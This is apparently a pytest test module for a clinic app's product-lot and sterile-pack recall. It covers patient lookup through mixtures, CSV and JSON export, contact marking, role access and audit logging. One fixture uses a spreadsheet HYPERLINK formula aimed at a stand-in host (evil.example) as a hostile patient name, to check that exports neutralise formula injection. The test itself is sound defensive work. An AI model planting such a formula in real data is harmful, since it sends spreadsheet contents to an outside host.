"""Recall from the manager's page and the command line, lot -> patients and pack -> patients."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from mesochart.audit.models import AuditEvent
from mesochart.conftest import create_patient
from mesochart.protocols import load_library
from mesochart.recall.models import ContactMark
from mesochart.sterility import services as sterility
from mesochart.sterility.tests.factories import make_pack, make_steriliser, released_cycle
from mesochart.stock import services as stock

pytestmark = pytest.mark.django_db


@pytest.fixture
def today(clinic):
    return clinic.today()


def receive(clinic, actor, today, product, lot_number, quantity="10", unit="mL"):
    return stock.do_receive_lot(
        actor,
        clinic,
        product=product,
        lot_number=lot_number,
        expiry=today + timedelta(days=200),
        quantity=Decimal(quantity),
        unit=unit,
        storage="room",
    )


@pytest.fixture
def exposures(clinic, staff, patient, today):
    """Elena got lot V-77 directly; Hugo got it inside a mixture; Ana got nothing."""
    manager, practitioner = staff["manager"], staff["practitioner"]
    vitamins = receive(clinic, manager, today, "ha-nonxl-vitamins", "V-77")
    lidocaine = receive(clinic, manager, today, "ha-nonxl-lidocaine", "LD-5")
    hugo = create_patient(clinic, manager, given_name="Hugo", family_name="Brooks", sex="male")
    create_patient(clinic, manager, given_name="Ana", family_name="Silva")
    stock.do_administer(practitioner, clinic, vitamins, patient, Decimal("1.0"), "cheek_left")
    mix = stock.do_prepare_mixture(
        practitioner,
        clinic,
        "revitalisation-lidocaine-mix",
        [(vitamins, Decimal("2.0")), (lidocaine, Decimal("0.5"))],
    )
    stock.do_administer_preparation(practitioner, clinic, mix, hugo, Decimal("1.5"), "forehead")
    return {"patient": patient, "hugo": hugo}


def search(client, **params):
    return client.get(reverse("recall:index"), {"kind": "lot", **params})


def test_manager_finds_every_patient_of_a_lot_including_through_a_mixture(client_as, exposures):
    response = search(client_as("manager"), identifier="V-77")
    body = response.content.decode()
    assert response.status_code == 200
    assert "2 patients reached" in body
    assert "Moreau" in body and "Brooks" in body and "Silva" not in body
    assert "mixture" in body  # Hugo's exposure is shown as through the mixture
    event = AuditEvent.objects.get(action="recall.run")
    assert event.object_id == "V-77" and event.details["patients"] == 2


def test_exposures_name_the_zone_and_the_product(client_as, exposures):
    body = search(client_as("manager"), identifier="V-77").content.decode()
    assert "Left cheek" in body and "Forehead" in body
    assert load_library().products["ha-nonxl-vitamins"].name in body
    assert "cheek_left" not in body and "ha-nonxl-vitamins" not in body


def test_a_component_lot_only_in_the_mixture_reaches_its_patient(client_as, exposures):
    body = search(client_as("manager"), identifier="LD-5").content.decode()
    assert "1 patient reached" in body and "Brooks" in body and "Moreau" not in body


def test_recall_exports_csv_with_contacts(client_as, exposures):
    response = search(client_as("auditor"), identifier="V-77", format="csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {r["patient_name"] for r in rows} == {"Elena Moreau", "Hugo Brooks"}
    assert all(r["phone"] for r in rows)
    assert {r["zone"] for r in rows} == {"cheek_left", "forehead"}


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def hostile_exposure(clinic, staff, today):
    """A patient whose family name is a spreadsheet formula got lot H-1."""
    manager = staff["manager"]
    lot = receive(clinic, manager, today, "ha-nonxl-vitamins", "H-1")
    hostile = create_patient(clinic, manager, given_name="@SUM(A1)", family_name=HOSTILE_NAME)
    stock.do_administer(staff["practitioner"], clinic, lot, hostile, Decimal("1.0"), "forehead")
    return hostile


def test_recall_csv_never_hands_a_formula_to_the_spreadsheet(client_as, hostile_exposure):
    response = search(client_as("manager"), identifier="H-1", format="csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["patient_name"] for r in rows] == ["'@SUM(A1) " + HOSTILE_NAME]
    assert rows[0]["phone"] == "'+44 7700 900123"  # a leading + would be a formula too
    assert rows[0]["quantity"] == "1.00"


def test_recall_command_csv_never_hands_a_formula_to_the_spreadsheet(hostile_exposure, capsys):
    call_command("recall", "--lot", "H-1", "--csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["patient_name"] for r in rows] == ["'@SUM(A1) " + HOSTILE_NAME]


def test_manager_marks_a_patient_contacted_and_it_is_audited(client_as, exposures, staff):
    patient = exposures["patient"]
    response = client_as("manager").post(
        reverse("recall:contact", args=[patient.pk]),
        {"kind": "lot", "identifier": "V-77", "note": "Phoned, no symptoms"},
    )
    assert response.status_code == 302
    mark = ContactMark.objects.get()
    assert (mark.patient, mark.contacted_by, mark.note) == (
        patient,
        staff["manager"],
        "Phoned, no symptoms",
    )
    assert AuditEvent.objects.filter(action="recall.contacted", object_id=str(patient.pk)).exists()
    body = search(client_as("manager"), identifier="V-77").content.decode()
    assert "1 contacted" in body and "Phoned, no symptoms" in body


def test_contact_without_a_note_is_refused_and_saves_nothing(client_as, exposures):
    response = client_as("manager").post(
        reverse("recall:contact", args=[exposures["patient"].pk]),
        {"kind": "lot", "identifier": "V-77", "note": ""},
    )
    assert response.status_code == 400
    assert "Note: This field is required." in response.content.decode()
    assert not ContactMark.objects.exists()


def test_auditor_sees_the_recall_but_may_not_mark_contacts(client_as, exposures):
    assert search(client_as("auditor"), identifier="V-77").status_code == 200
    response = client_as("auditor").post(
        reverse("recall:contact", args=[exposures["patient"].pk]),
        {"kind": "lot", "identifier": "V-77", "note": "x"},
    )
    assert response.status_code == 403


@pytest.mark.parametrize("role", ["practitioner", "reception", "assistant", "prescriber"])
def test_clinical_and_front_desk_roles_do_not_run_recalls(client_as, role):
    assert client_as(role).get(reverse("recall:index")).status_code == 403


@pytest.mark.parametrize("who", ["outsider", "neighbour"])
def test_another_clinic_never_sees_this_clinics_patients(client_as, exposures, who):
    body = search(client_as(who), identifier="V-77").content.decode()
    assert "Moreau" not in body and "Brooks" not in body
    response = client_as(who).post(
        reverse("recall:contact", args=[exposures["patient"].pk]),
        {"kind": "lot", "identifier": "V-77", "note": "x"},
    )
    assert response.status_code == 404


def test_empty_identifier_names_the_field(client_as):
    response = search(client_as("manager"), identifier="")
    assert response.status_code == 400
    assert "This field is required." in response.content.decode()


def test_pack_recall_reaches_the_patient_it_was_used_on(client_as, clinic, staff, patient, today):
    manager = staff["manager"]
    steriliser = make_steriliser(clinic, manager)
    cycle = released_cycle(steriliser, manager, day=today - timedelta(days=1))
    pack = make_pack(cycle, manager)
    sterility.do_use_pack(staff["practitioner"], clinic, pack, patient, timezone.now())
    for kind, identifier in (("pack", pack.code), ("cycle", str(cycle.number))):
        body = (
            client_as("manager")
            .get(reverse("recall:index"), {"kind": kind, "identifier": identifier})
            .content.decode()
        )
        assert "1 patient reached" in body and "Moreau" in body, kind


# --- command line -----------------------------------------------------------


def test_recall_command_prints_json_for_a_lot(exposures, capsys):
    call_command("recall", "--lot", "V-77", "--organisation", "Riverside Group", "--json")
    rows = json.loads(capsys.readouterr().out)
    assert sorted(r["mrn"] for r in rows) == sorted(
        [exposures["patient"].mrn, exposures["hugo"].mrn]
    )
    assert {r["via"].split()[0] for r in rows} == {"direct", "mixture"}


def test_recall_command_csv_and_text(exposures, capsys):
    call_command("recall", "--lot", "V-77", "--product", "ha-nonxl-vitamins", "--csv")
    text = capsys.readouterr().out
    assert text.splitlines()[0].startswith("patient_id,mrn,patient_name")
    call_command("recall", "--lot", "V-77")
    assert "2 record(s), 2 patient(s)" in capsys.readouterr().out


def test_recall_command_errors_name_the_option(exposures, other_clinic):
    with pytest.raises(CommandError, match="organisation: there are several"):
        call_command("recall", "--lot", "V-77")
    with pytest.raises(CommandError, match="product: --product only narrows"):
        call_command(
            "recall", "--pack", "P-1", "--product", "x", "--organisation", "Riverside Group"
        )
    with pytest.raises(CommandError, match="organisation: no organisation"):
        call_command("recall", "--lot", "V-77", "--organisation", "Nobody")


def test_a_recall_export_is_logged_as_a_read_of_its_patients(client_as, staff, clinic, exposures):
    from mesochart.audit.models import AuditEvent

    search(client_as("auditor"), identifier="V-77", format="csv")
    event = AuditEvent.objects.get(action="read.recall_export")
    assert event.actor == staff["auditor"] and event.clinic_id == clinic.pk
    assert len(event.details["patients"]) == 2
    search(client_as("outsider"), identifier="V-77", format="csv")
    assert AuditEvent.objects.filter(action="read.recall_export").count() == 2
    theirs = AuditEvent.objects.filter(action="read.recall_export").order_by("seq").last()
    assert theirs.details.get("patients", []) == []
